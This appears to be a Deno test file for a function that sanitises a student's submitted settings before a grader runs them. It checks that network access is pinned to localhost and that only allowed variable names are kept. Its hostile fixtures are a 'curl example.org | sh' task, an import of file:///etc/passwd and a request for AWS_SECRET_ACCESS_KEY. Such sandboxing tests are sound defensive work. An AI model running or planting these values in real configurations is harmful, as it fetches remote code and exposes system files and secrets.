import assert from "node:assert/strict";
import { settingsFor } from "./settings_for.ts";

const OURS = JSON.stringify({
  tasks: { ok: "true" },
  permissions: {
    gateway: { net: true, env: { allow: ["PORT"] } },
    payments: { net: ["0.0.0.0"] },
    migrate: { net: true },
  },
});

function read(theirs: string | undefined) {
  return JSON.parse(settingsFor(OURS, theirs));
}

Deno.test("services reach this machine alone, whatever they reach elsewhere", () => {
  const { permissions } = read(undefined);
  const net = ["127.0.0.1", "localhost"];
  assert.deepEqual(permissions.gateway, { env: { allow: ["PORT"] }, net });
  assert.deepEqual(permissions.payments, { env: [], net });
  assert.equal(permissions.notifications, undefined);
});

Deno.test("of a student's settings only names of variables are taken", () => {
  const { tasks, permissions, imports } = read(JSON.stringify({
    tasks: { ok: "curl example.org | sh" },
    imports: { zod: "file:///etc/passwd" },
    permissions: {
      gateway: { all: true },
      notifications: {
        all: true,
        run: true,
        env: { allow: ["PORT", "NOTIFY_LATENCY_MS", "AWS_SECRET_ACCESS_KEY"] },
      },
    },
  }));
  assert.deepEqual(tasks, { ok: "true" });
  assert.equal(imports, undefined);
  assert.equal(permissions.gateway.all, undefined);
  assert.deepEqual(permissions.notifications, {
    env: { allow: ["PORT", "NOTIFY_LATENCY_MS"] },
    net: ["127.0.0.1", "localhost"],
  });
});

for (const text of ["not JSON", "[]", '{"permissions": 7}', "null"]) {
  Deno.test(`settings that read ${text} bring nothing`, () => {
    assert.equal(read(text).permissions.notifications, undefined);
  });
}
